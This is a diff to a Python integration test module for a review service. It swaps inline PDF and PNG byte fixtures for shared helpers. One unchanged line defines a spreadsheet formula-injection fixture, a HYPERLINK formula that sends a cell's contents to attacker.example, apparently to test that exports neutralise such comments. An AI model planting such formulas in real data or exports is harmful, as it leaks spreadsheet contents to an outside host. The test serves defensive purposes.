@@ -17,6 +17,7 @@ from services.review.domain.cases import ReviewCase, local_date
 from shared.auth import Role
 from tests.conftest import TEST_SECRET
 from tests.support import asyncapi
+from tests.support.documents import MINIMAL_PDF, png
 from tests.support.partner import PartnerSubscriber
 from tests.support.review_system import (
     DEPARTMENT_REVIEWER,
@@ -29,10 +30,10 @@ from tests.support.review_system import (
 )
 
 pytestmark = pytest.mark.integration
-PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
+PDF = MINIMAL_PDF
 # A comment that would be a live link in the reviewer's spreadsheet if exported as is.
 FORMULA_COMMENT = '=HYPERLINK("http://attacker.example/?d="&A2, "Đề nghị rà soát số cán bộ được tập huấn")'
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+PNG = png()
 
 
 @pytest.fixture
